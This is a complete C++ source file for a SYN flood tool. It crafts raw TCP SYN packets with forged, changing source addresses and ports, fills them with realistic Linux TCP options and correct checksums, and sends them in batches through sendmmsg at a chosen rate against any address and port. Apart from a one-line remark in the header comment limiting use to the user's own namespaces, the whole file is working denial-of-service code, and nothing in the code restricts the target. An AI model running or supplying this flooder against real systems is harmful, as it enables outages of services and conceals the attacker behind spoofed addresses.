// A SYN flood: SYNs of hosts that will never answer, from addresses and ports that change with each
// packet (RFC 4987 §2, CWE-400). Only for namespaces of your own.
//
//   syn_flood --to ADDRESS:PORT [--rate PPS] [--seconds N] [--from NETWORK/PREFIX]
//
// `--rate 0` is as fast as it goes. The SYNs are those of a Linux client: MSS, SACK, timestamps,
// window scale, with right checksums, so that nothing but their number is wrong with them. Prints
// how many left, and how many a second.
#include <arpa/inet.h>
#include <netinet/in.h>
#include <sys/socket.h>
#include <unistd.h>

#include <algorithm>
#include <array>
#include <chrono>
#include <cstdint>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <string>

namespace {

using Clock = std::chrono::steady_clock;

constexpr std::size_t kIpHeader = 20;
constexpr std::size_t kOptions = 20;
constexpr std::size_t kPacket = kIpHeader + 20 + kOptions;
constexpr std::size_t kBatch = 64;  // packets of one system call at most
constexpr double kBurst = 32;       // and at least: a call for each packet would take all the time

struct Wish {
  in_addr to{};
  std::uint16_t port = 80;
  double rate = 0;
  double seconds = 5;
  std::uint32_t network = 0xc6120000;  // 198.18.0.0/15, of benchmarks (RFC 2544)
  std::uint32_t prefix = 15;
};

/// Numbers that only have to differ.
class Numbers {
 public:
  std::uint64_t operator()() {
    state_ += 0x9e3779b97f4a7c15;
    std::uint64_t z = state_;
    z = (z ^ (z >> 30)) * 0xbf58476d1ce4e5b9;
    z = (z ^ (z >> 27)) * 0x94d049bb133111eb;
    return z ^ (z >> 31);
  }

 private:
  std::uint64_t state_ = static_cast<std::uint64_t>(::getpid()) << 32;
};

using Packet = std::array<std::uint8_t, kPacket>;

void store16(std::uint8_t* at, std::uint32_t value) {
  at[0] = static_cast<std::uint8_t>(value >> 8);
  at[1] = static_cast<std::uint8_t>(value);
}
void store32(std::uint8_t* at, std::uint32_t value) {
  store16(at, value >> 16);
  store16(at + 2, value & 0xffff);
}
std::uint32_t sum(const std::uint8_t* at, std::size_t size, std::uint32_t total = 0) {
  for (std::size_t i = 0; i < size; i += 2) {
    total += static_cast<std::uint32_t>(at[i] << 8 | at[i + 1]);
  }
  return total;
}
std::uint32_t folded(std::uint32_t total) {
  while (total > 0xffff) total = (total & 0xffff) + (total >> 16);
  return ~total & 0xffff;
}

Packet syn_to(const Wish& wish) {
  Packet packet{};
  std::uint8_t* const ip = packet.data();
  ip[0] = 0x45;
  store16(ip + 2, kPacket);
  ip[6] = 0x40;  // don't fragment
  ip[8] = 64;
  ip[9] = IPPROTO_TCP;
  std::memcpy(ip + 16, &wish.to, 4);
  std::uint8_t* const tcp = ip + kIpHeader;
  store16(tcp + 2, wish.port);
  tcp[12] = (20 + kOptions) / 4 << 4;
  tcp[13] = 0x02;
  store16(tcp + 14, 64240);
  constexpr std::array<std::uint8_t, kOptions> kLinuxOptions = {2, 4, 5, 0xb4, 4, 2, 8, 10, 0, 0,
                                                                0, 0, 0, 0,    0, 0, 1, 3,  3, 7};
  std::memcpy(tcp + 20, kLinuxOptions.data(), kOptions);
  return packet;
}

// Another source address, port, sequence number and timestamp, and the checksums for them.
void vary(Packet& packet, const Wish& wish, Numbers& numbers) {
  const std::uint64_t first = numbers();
  const std::uint64_t second = numbers();
  std::uint8_t* const ip = packet.data();
  std::uint8_t* const tcp = ip + kIpHeader;
  const auto hosts = static_cast<std::uint32_t>((std::uint64_t{1} << (32 - wish.prefix)) - 1);
  store32(ip + 12, wish.network | (static_cast<std::uint32_t>(first) & hosts));
  store16(tcp, 1024 + static_cast<std::uint32_t>(first >> 32) % 64000);
  store32(tcp + 4, static_cast<std::uint32_t>(second));
  store32(tcp + 28, static_cast<std::uint32_t>(second >> 32));
  store16(ip + 10, 0);
  store16(ip + 10, folded(sum(ip, kIpHeader)));
  store16(tcp + 16, 0);
  const std::uint32_t pseudo = sum(ip + 12, 8) + IPPROTO_TCP + (kPacket - kIpHeader);
  store16(tcp + 16, folded(sum(tcp, kPacket - kIpHeader, pseudo)));
}

int flood(const Wish& wish) {
  const int fd = ::socket(AF_INET, SOCK_RAW | SOCK_CLOEXEC, IPPROTO_RAW);
  if (fd < 0) {
    std::perror("syn_flood: raw socket");
    return 1;
  }
  const int room = 8 << 20;
  static_cast<void>(::setsockopt(fd, SOL_SOCKET, SO_SNDBUFFORCE, &room, sizeof room));
  sockaddr_in to{};
  to.sin_family = AF_INET;
  to.sin_addr = wish.to;
  std::array<Packet, kBatch> packets;
  std::array<iovec, kBatch> pieces{};
  std::array<mmsghdr, kBatch> messages{};
  for (std::size_t i = 0; i < kBatch; ++i) {
    packets[i] = syn_to(wish);
    pieces[i] = {packets[i].data(), kPacket};
    messages[i].msg_hdr.msg_name = &to;
    messages[i].msg_hdr.msg_namelen = sizeof to;
    messages[i].msg_hdr.msg_iov = &pieces[i];
    messages[i].msg_hdr.msg_iovlen = 1;
  }
  Numbers numbers;
  const auto start = Clock::now();
  const auto elapsed = [&] { return std::chrono::duration<double>(Clock::now() - start).count(); };
  std::uint64_t sent = 0;
  for (double now = 0; now < wish.seconds; now = elapsed()) {
    const double due = wish.rate == 0 ? kBatch : now * wish.rate - static_cast<double>(sent);
    if (due < std::min(kBurst, wish.rate == 0 ? kBurst : wish.rate / 100)) continue;  // spins
    const auto count = static_cast<unsigned>(std::clamp(due, 1.0, double{kBatch}));
    for (unsigned i = 0; i < count; ++i) vary(packets[i], wish, numbers);
    const int done = ::sendmmsg(fd, messages.data(), count, 0);
    if (done > 0) sent += static_cast<std::uint64_t>(done);
  }
  std::printf("%llu SYNs, %.0f a second\n", static_cast<unsigned long long>(sent),
              static_cast<double>(sent) / elapsed());
  return 0;
}

// "ADDRESS:PORT"; false: it is none.
bool read_target(const std::string& text, Wish& wish) {
  const std::size_t colon = text.rfind(':');
  if (colon == std::string::npos) return false;
  wish.port = static_cast<std::uint16_t>(std::atoi(text.c_str() + colon + 1));
  return wish.port != 0 && ::inet_pton(AF_INET, text.substr(0, colon).c_str(), &wish.to) == 1;
}

bool read_sources(const std::string& text, Wish& wish) {
  const std::size_t slash = text.find('/');
  in_addr network{};
  if (slash == std::string::npos ||
      ::inet_pton(AF_INET, text.substr(0, slash).c_str(), &network) != 1) {
    return false;
  }
  wish.network = ntohl(network.s_addr);
  wish.prefix = static_cast<std::uint32_t>(std::atoi(text.c_str() + slash + 1));
  return wish.prefix <= 32;
}

}  // namespace

int main(int argc, char** argv) {
  Wish wish;
  bool good = argc % 2 == 1;
  bool has_target = false;
  for (int i = 1; good && i + 1 < argc; i += 2) {
    const std::string option = argv[i];
    const std::string value = argv[i + 1];
    if (option == "--to") {
      good = has_target = read_target(value, wish);
    } else if (option == "--from") {
      good = read_sources(value, wish);
    } else if (option == "--rate") {
      wish.rate = std::max(std::atof(value.c_str()), 0.0);
    } else if (option == "--seconds") {
      wish.seconds = std::clamp(std::atof(value.c_str()), 0.0, 600.0);
    } else {
      good = false;
    }
  }
  if (!good || !has_target) {
    std::fputs(
        "usage: syn_flood --to ADDRESS:PORT [--rate PPS] [--seconds N] [--from NETWORK/PREFIX]\n",
        stderr);
    return 2;
  }
  return flood(wish);
}
